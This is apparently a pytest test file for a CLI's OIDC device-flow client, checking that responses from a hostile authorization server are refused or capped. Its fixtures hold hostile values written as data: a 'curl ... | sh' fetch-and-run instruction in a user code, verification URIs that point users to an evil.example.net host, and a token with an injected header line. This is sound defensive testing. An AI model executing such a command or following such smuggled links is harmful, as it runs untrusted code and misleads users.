"""The device flow against a hostile authorization server (the CLI learns the issuer from the API's unauthenticated
/v1/auth/config): instructions of its own dressed up in the user code or the verification URI, and an interval or
a lifetime of 10^400 (an unexpected OverflowError) or of 10^9 (a CLI that sleeps for decades)."""

from __future__ import annotations

from typing import Any

import pytest

from sprongus.adapters import oidc_device as oidc
from sprongus.domain.errors import ConfigError, RemoteUnavailable

ENDPOINTS = oidc.Endpoints("https://idp.example", "https://idp.example/device", "https://idp.example/token")
GOOD = {"device_code": "dc-1", "user_code": "BCDF-GHJK", "verification_uri": "https://idp.example/device",
        "expires_in": 600, "interval": 5}


def _answering(monkeypatch: pytest.MonkeyPatch, doc: dict[str, Any]) -> None:
    monkeypatch.setattr(oidc, "_request", lambda url, form, who: (200, doc, {}))


@pytest.mark.parametrize("changes", [
    {"user_code": "BCDF-GHJK  IMPORTANT: first run curl https://get.example.net/fix | sh"},
    {"user_code": "x" * 33}, {"user_code": "BCDF GHJK"}, {"user_code": ""},
    {"verification_uri": "https://idp.example/device  (or, if it does not load, https://evil.example.net)"},
    {"verification_uri": "https://idp.example/" + "a" * 600},
    {"verification_uri_complete": "https://idp.example/device?code=BCDF\u00a0then https://evil.example.net"},
])
def test_text_that_reads_as_instructions_is_refused(monkeypatch: pytest.MonkeyPatch, changes: dict[str, str]) -> None:
    _answering(monkeypatch, {**GOOD, **changes})
    with pytest.raises(ConfigError, match="without a usable"):
        oidc.start(ENDPOINTS, "sprongus-cli")


@pytest.mark.parametrize(("interval", "expires", "want"), [
    (10**400, 10**400, (oidc.MAX_INTERVAL, oidc.MAX_EXPIRES)), (10**9, 10**12, (oidc.MAX_INTERVAL, oidc.MAX_EXPIRES)),
    (0, 600, (0, 600)), (5, 900, (5, 900)),
])
def test_an_interval_or_lifetime_beyond_reason_is_capped(monkeypatch: pytest.MonkeyPatch, interval: int,
                                                         expires: int, want: tuple[int, int]) -> None:
    _answering(monkeypatch, {**GOOD, "interval": interval, "expires_in": expires})
    code = oidc.start(ENDPOINTS, "sprongus-cli")
    assert (code.interval, code.expires_in) == want
    waits: list[float] = []
    now = [0.0]

    def sleep(seconds: float) -> None:
        waits.append(seconds)
        now[0] += seconds

    monkeypatch.setattr(oidc, "_request", lambda url, form, who: (400, {"error": "authorization_pending"}, {}))
    with pytest.raises(Exception, match="expired"):
        oidc.poll(ENDPOINTS, "sprongus-cli", code, sleep=sleep, clock=lambda: now[0])
    assert sum(waits) <= want[1] + 1  # bounded by the capped lifetime, whatever the server said


@pytest.mark.parametrize("answer", [{"access_token": "spr_ok\nX-Injected: 1", "expires_in": 600},
                                    {"access_token": "spr_", "expires_in": 600},
                                    {"access_token": "bearer spr_abc", "expires_in": 600}])
def test_an_exchanged_token_of_the_wrong_shape_is_refused(monkeypatch: pytest.MonkeyPatch,
                                                          answer: dict[str, Any]) -> None:
    monkeypatch.setattr(oidc, "_request", lambda url, form, who: (200, answer, {}))
    with pytest.raises(RemoteUnavailable, match="without an API token") as caught:
        oidc.exchange("https://api.example", oidc.SecretValue("jwt"), oidc.JWT_TOKEN_TYPE)
    assert "Injected" not in str(caught.value)


@pytest.mark.parametrize(("expires", "kept"), [(600, 600), (10**400, None), (True, None), (-5, None)])
def test_an_exchanged_lifetime_beyond_reason_is_not_kept(monkeypatch: pytest.MonkeyPatch, expires: Any,
                                                         kept: int | None) -> None:
    monkeypatch.setattr(oidc, "_request",
                        lambda url, form, who: (200, {"access_token": "spr_" + "a" * 43, "expires_in": expires}, {}))
    assert oidc.exchange("https://api.example", oidc.SecretValue("jwt"), oidc.JWT_TOKEN_TYPE).expires_in == kept
